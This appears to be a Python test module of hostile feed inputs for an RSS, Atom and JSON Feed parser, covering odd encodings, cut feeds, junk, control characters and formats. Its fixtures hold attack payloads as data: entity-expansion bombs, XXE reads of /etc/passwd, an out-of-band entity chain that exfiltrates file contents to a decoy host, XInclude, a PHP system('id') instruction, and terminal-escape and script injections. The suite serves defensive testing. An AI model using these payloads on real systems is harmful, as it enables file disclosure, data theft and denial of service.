"""How a feed is written: charsets, entities and doctypes, cut ends, junk around it, controls, odd formats."""

from __future__ import annotations

import gzip
import json

from tests.hostile.feeds.feed import ENTRY, ITEM, KEPT, NAMESPACES, atom, either, fails, rss, works

UMLAUTS = "Die Läden öffnen früh."
LAMPS = "Лампы горят всю ночь."


def declared(charset: str, words: str, codec: str = "") -> bytes:
    item = f"<item><title>Lamps</title><description>{words}</description></item>"
    return rss(item, before=f'<?xml version="1.0" encoding="{charset}"?>').encode(codec or charset)


ENCODINGS = [
    *(works(f"{charset}", declared(charset, UMLAUTS), UMLAUTS) for charset in ("utf-8", "iso-8859-1", "windows-1252", "iso-8859-15", "utf-16", "mac-roman")),
    *(works(f"{charset}", declared(charset, LAMPS), LAMPS) for charset in ("koi8-r", "windows-1251", "iso-8859-5", "cp866")),
    *(works(f"{charset}", declared(charset, words), words) for charset, words in
      (("shift_jis", "灯火は一晩中燃える"), ("euc-jp", "灯火は一晩中燃える"), ("iso-2022-jp", "灯火は一晩中燃える"), ("gb2312", "灯火通明"), ("gbk", "灯火通明"),
       ("gb18030", "灯火通明"), ("big5", "燈火通明"), ("euc-kr", "등불이 밤새 탄다"), ("windows-1255", "המנורות"), ("windows-1256", "المصابيح"))),
    works("utf-16 with big ends", declared("utf-16", UMLAUTS, "utf-16-be"), UMLAUTS),
    works("utf-16 with little ends", b"\xff\xfe" + declared("utf-16", UMLAUTS, "utf-16-le"), UMLAUTS),
    works("utf-32", declared("utf-32", UMLAUTS), UMLAUTS),
    works("a mark of utf-8", b"\xef\xbb\xbf" + declared("utf-8", UMLAUTS), UMLAUTS),
    works("two marks of utf-8", b"\xef\xbb\xbf" * 2 + declared("utf-8", UMLAUTS), UMLAUTS),
    works("utf-8 said to be latin-1", declared("iso-8859-1", UMLAUTS, "utf-8"), UMLAUTS),
    works("utf-8 said to be utf-16", declared("utf-16", UMLAUTS, "utf-8"), UMLAUTS),
    works("utf-8 said to be ascii", declared("us-ascii", UMLAUTS, "utf-8"), UMLAUTS),
    works("windows-1252 said to be utf-8", declared("utf-8", UMLAUTS, "windows-1252"), UMLAUTS),
    works("windows-1252 said to be latin-1", declared("iso-8859-1", "“Lamps” – all night", "windows-1252"), "“Lamps” – all night"),
    *(works(f"utf-8 said to be {charset}", declared(charset, UMLAUTS, "utf-8"), UMLAUTS)
      for charset in ("nonsense", "", "rot13", "base64", "zip", "unicode_escape", "utf-8-sig", "x" * 900, "../../etc/passwd")),
    works("nothing declared", rss().replace(KEPT, UMLAUTS).encode(), UMLAUTS),
    works("one byte that is none", rss().encode().replace(b"all", b"all\xff")[:-1] + b">", "The lamps burn all"),
    works("a lone half of a letter", rss().replace("all", "all\ud83d"), "The lamps burn all"),
    either("utf-7", declared("utf-7", UMLAUTS)),
    either("EBCDIC", declared("cp500", UMLAUTS)),
    either("half utf-8, half latin-1", rss(ITEM.replace(KEPT, UMLAUTS)).encode() + rss().encode("utf-16")),
]  # fmt: skip

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
XML = [
    works("a billion laughs", rss(ITEM.replace("Lamps", "&l11;"), before=f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>')),
    works("a quadratic blow-up", rss(ITEM.replace("Lamps", "&a;" * 5_000), before=f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>')),
    *(works(f"an entity of {where[:18]}", rss(ITEM.replace("Lamps", "Lamps &x;"), before=f'<!DOCTYPE x [<!ENTITY x SYSTEM "{where}">]>'))
      for where in ("file:///etc/passwd", "http://DECOY.HOST/x", "php://filter/x", "//DECOY.HOST/x", "\\\\DECOY.HOST\\x", "jar:file:///x!/y", "/dev/zero")),
    works("parameter entities", rss(before='<!DOCTYPE x [<!ENTITY % a SYSTEM "http://DECOY.HOST/x.dtd"> %a; %b;]>')),
    works("parameter entities that build", rss(before='<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://DECOY.HOST/%f;\'>"> %e; %s;]>')),
    works("a doctype elsewhere", rss(before='<!DOCTYPE rss SYSTEM "http://DECOY.HOST/rss.dtd">')),
    works("a public doctype", rss(before='<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "http://DECOY.HOST/rss-0.91.dtd">')),
    works("a style sheet", rss(before='<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://DECOY.HOST/x.xsl"?>')),
    works("a schema", rss().replace("<rss", "<rss xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:schemaLocation='x http://DECOY.HOST/x.xsd'", 1)),
    works("an inclusion", rss(ITEM.replace("Lamps", "Lamps<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='http://DECOY.HOST/x' parse='text'/>"))),
    works("an inclusion of a file", rss(ITEM.replace("Lamps", "Lamps<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>"))),
    works("an entity that is itself", rss(ITEM.replace("Lamps", "&a;"), before='<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')),
    works("entities nobody declared", rss(ITEM.replace("Lamps", "&nbsp;&foo;&euro; &;&amp;amp;"))),
    works("references to no character", rss(ITEM.replace("Lamps", "&#0;&#xD800;&#x110000;&#xFFFFFFFFFF;&#-1;&#x;"))),
    either("a doctype without end", rss(before="<!DOCTYPE x [<!ENTITY a 'b'>")),
    works("deep nesting before it", rss("<x>" * 500 + "</x>" * 500 + ITEM)),
    works("twenty thousand levels beside it", rss(ITEM + "<x>" * 20_000)),
    works("twenty thousand levels in a text", rss(ITEM + f"<item><title>Deep</title><description>{'&lt;div&gt;' * 20_000}deep</description></item>")),
    works("two thousand attributes", rss("<x " + " ".join(f"a{n}='1'" for n in range(2_000)) + "/>" + ITEM)),
    works("an attribute of a million letters", rss(f"<x a='{'x' * 1_000_000}'/>" + ITEM)),
    works("a name of a million letters", rss(f"<{'x' * 1_000_000}/>" + ITEM)),
    works("ten thousand namespaces", rss("<x " + " ".join(f"xmlns:n{n}='http://n/{n}'" for n in range(10_000)) + "/>" + ITEM)),
    works("a namespace that is no name", rss(ITEM).replace("<rss", "<rss xmlns:zz='\x01'", 1)),
    works("the same attribute twice", rss("<x a='1' a='2'/>" + ITEM)),
    works("comments without end", rss(ITEM + "<!--" + "-" * 200_000)),
    works("a section of characters without end", rss(ITEM + "<item><title>Cut</title><description><![CDATA[" + "x" * 100_000)),
    works("sections within sections", rss(ITEM + "<item><title>C</title><description><![CDATA[<![CDATA[<script>x</script>]]]]></description></item>")),
    works("instructions", rss(ITEM + "<?php system('id') ?><?xml version='9.9'?>")),
    works("XML of version 1.1", rss(before='<?xml version="1.1"?>')),
    works("XML that stands alone", rss(before='<?xml version="1.0" standalone="yes"?>')),
]  # fmt: skip

WHOLE = rss(ITEM + ITEM.replace("Lamps", "Ferry").replace(">1<", ">2<"))
AT = WHOLE.index("Ferry")
CUT = [works(f"cut {what}", WHOLE[:at]) for what, at in (("in the second title", AT + 2), ("in the second text", AT + 40), ("before the end", len(WHOLE) - 3),
       ("after an item", AT - 13), ("in a tag", AT - 3))]  # fmt: skip
CUT += [
    either("cut in the first text", rss()[:-60]),
    either("cut in the title", rss()[:260]),
    fails("cut in the prologue", rss()[:12]),
]

JUNK = [
    works("a warning before it", "<br />\n<b>Warning</b>: Cannot modify header in /var/www/x.php on line 5<br />\n" + rss()),
    works("a comment before it", "<!-- <rss> generated -->\n" + rss()),
    works("empty lines before it", "\n\n\t  \n" + rss()),
    works("a page after it", rss() + "<html><body><script>count()</script></body></html>"),
    works("noughts after it", rss() + "\0" * 100),
    works("a second feed after it", rss() + rss(ITEM.replace("Lamps", "Other"))),
    works("scripts within it", rss("<script>alert(1)</script>" + ITEM)),
    works("open ampersands", rss(ITEM + "<item><title>A & B &c</title><link>http://x.example/?a=1&b=2</link></item>")),
    works("tags that are not closed", rss(ITEM + "<item><title>A<b>B<i></title></item>")),
    works("tags in capitals", rss().replace("<item>", "<ITEM>").replace("</item>", "</ITEM>")),
    works("two channels", rss(ITEM + "</channel><channel><title>Two</title>")),
    works("an item within an item", rss("<item><title>Outer</title>" + ITEM + "</item>")),
    works("a million spaces", rss(" " * 1_000_000 + ITEM)),
    works("JSON after it", rss() + '{"version": "https://jsonfeed.org/version/1"}'),
    fails("random bytes", bytes((n * n + n // 7) % 256 for n in range(5_000))),
    fails("a picture", b"\x89PNG\r\n\x1a\n" + bytes(900)),
    fails("an archive", gzip.compress(rss().encode())),
    fails("a zip", b"PK\x03\x04" + bytes(200)),
    fails("a program", b"\x7fELF" + bytes(200)),
    fails("one letter", "<"),
    fails("spaces", " \n\t " * 100),
    fails("plain text", "No feed here.\n" * 20),
    fails("CSV", "title,link\nLamps,http://x.example/\n"),
    fails("YAML", "- title: Lamps\n"),
    fails("OPML", "<opml version='2.0'><body><outline xmlUrl='http://x.example/'/></body></opml>"),
    fails("a site map", "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url><loc>http://x.example/</loc></url></urlset>"),
    fails("SVG", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    fails("SOAP", "<soap:Envelope xmlns:soap='x'><soap:Body><item><title>x</title></item></soap:Body></soap:Envelope>"),
]  # fmt: skip

CONTROLS = [
    works("controls in a title", rss(ITEM.replace("Lamps", "L\x00a\x01m\x08p\x0bs\x1b[31m\x7f\x9b"))),
    works("controls in a text", rss(ITEM.replace(KEPT, f"\x07{KEPT}\x1b]0;title\x07"))),
    works("controls between elements", rss("\x00\x0c" + ITEM + "\x02")),
    works("a guid of controls", rss(ITEM.replace(">1<", ">\x01\x02<"))),
    works("letters that are none", rss(ITEM.replace("Lamps", "Lamps \ufffe\uffff\U0001fffe"))),
    works("private letters", rss(ITEM.replace("Lamps", "\ue000\U000f0000 Lamps"))),
    works("a terminal's commands", rss(ITEM.replace("Lamps", "\x1b]8;;http://DECOY.HOST/\x1b\\Lamps"))),
]  # fmt: skip

FORMATS = [
    works("RSS 0.90", "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://my.netscape.com/rdf/simple/0.9/'><channel><title>T</title></channel>"
          f"<item><title>Lamps</title><link>http://x.example/1</link><description>{KEPT}</description></item></rdf:RDF>"),
    works("RSS 1.0", f"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/' {NAMESPACES}><channel rdf:about='x'><title>T</title></channel>"
          f"<item rdf:about='x'><title>Lamps</title><content:encoded>{KEPT}</content:encoded></item></rdf:RDF>"),
    *(works(f"RSS {version!r}", rss().replace("version='2.0'", f"version='{version}'")) for version in ("0.91", "0.92", "0.93", "0.94", "2.0.1", "9.9", "", "x")),
    works("RSS without a version", rss().replace("version='2.0'", "")),
    works("RSS without a channel", f"<rss version='2.0'>{ITEM}</rss>"),
    works("RSS in capitals", rss().replace("<rss", "<RSS").replace("</rss", "</RSS")),
    works("Atom 0.3", atom().replace("http://www.w3.org/2005/Atom", "http://purl.org/atom/ns#")),
    works("Atom 1.0", atom()),
    works("Atom with a prefix", f"<a:feed xmlns:a='http://www.w3.org/2005/Atom'><a:title>T</a:title><a:entry><a:title>L</a:title><a:id>1</a:id><a:content>{KEPT}</a:content></a:entry></a:feed>"),
    works("Atom in another namespace", atom().replace("2005/Atom", "1999/Atom")),
    works("Atom of XHTML", atom(ENTRY.replace("type='html'", "type='xhtml'").replace(KEPT, f"<div xmlns='http://www.w3.org/1999/xhtml'><p>{KEPT}</p></div>"))),
    works("Atom of base64", atom(ENTRY.replace("type='html'", "type='text/html' mode='base64'")), ""),
    works("Atom elsewhere", atom(ENTRY + "<entry><title>E</title><id>2</id><content src='http://DECOY.HOST/x' type='text/html'/></entry>")),
    either("one Atom entry", f"<entry xmlns='http://www.w3.org/2005/Atom'><title>L</title><id>1</id><content>{KEPT}</content></entry>"),
    either("CDF", "<channel href='http://x.example/'><title>T</title><item href='http://x.example/1'><title>Lamps</title></item></channel>"),
    works("a feed of no entries", rss(""), ""),
    works("entries of nothing", rss(ITEM + "<item/><item></item><item><title/></item>")),
    works("text in a namespace of its own", rss("<item><title>L</title><content:encoded>" + KEPT + "</content:encoded></item>")),
    works("media instead of text", rss(f"<item><title>L</title><media:group><media:description>{KEPT}</media:description></media:group></item>"), ""),
]  # fmt: skip


def told(*items: object, **feed: object) -> str:
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "T", "items": items, **feed})


GOOD = {"id": "1", "title": "Lamps", "content_html": f"<p>{KEPT}</p>"}
JSON = [
    works("version 1.1", told(GOOD)),
    works("version 1", told(GOOD).replace("1.1", "1")),
    works("an unknown version", told(GOOD).replace("1.1", "9")),
    works("with a mark before it", "\ufeff" + told(GOOD)),
    works("with ids that are numbers", told({**GOOD, "id": 7})),
    works("with ids that are objects", told({**GOOD, "id": {"a": 1}})),
    works("with items that are none", told(GOOD, None, 5, "x", [], True)),
    works("with fields of the wrong kind", told(GOOD, {"id": [], "title": {}, "url": 5, "content_html": ["x"], "authors": 7, "tags": {}, "attachments": "x", "date_published": 10**30})),
    works("with authors that are none", told({**GOOD, "authors": [None, 5, {"name": ["x"]}, {"name": "Ann"}]})),
    works("with half a letter", told(GOOD).replace("Lamps", "\\ud800Lamps\\udfff")),
    works("with controls", told(GOOD).replace("Lamps", "\\u0000\\u001b[31mLamps")),
    works("with a field twice", told(GOOD).replace('"id": "1"', '"id": "0", "id": "1"')),
    works("with a base that is none", told(GOOD, feed_url="javascript:alert(1)", home_page_url="file:///etc/passwd", next_url="http://DECOY.HOST/2", hubs=[{"url": "http://DECOY.HOST/"}], icon="http://DECOY.HOST/i.png")),
    works("with scripts", told({**GOOD, "content_html": f"<p>{KEPT}</p><script>alert(1)</script>"})),
    works("with numbers without end", told(GOOD).replace('"id": "1"', '"id": "1", "n": ' + "9" * 4_000)),
    fails("that is cut", told(GOOD)[:-20]),
    fails("nested without end", '{"items":' + "[" * 200_000),
    fails("of one word", '{"version": "https://jsonfeed.org/version/1.1"}'),
    fails("whose items are an object", '{"version": "https://jsonfeed.org/version/1.1", "items": {"a": 1}}'),
    fails("that is a list", "[1, 2]"),
    fails("with remarks", "{// remark\n}"),
    either("with not-a-number", told(GOOD).replace('"id": "1"', '"id": NaN')),
    either("with a comma too many", told(GOOD).replace("}]", "},]")),
]  # fmt: skip

FAMILIES = {
    "encodings": ENCODINGS,
    "XML": XML,
    "cut": CUT,
    "junk": JUNK,
    "controls": CONTROLS,
    "formats": FORMATS,
    "JSON": JSON,
}
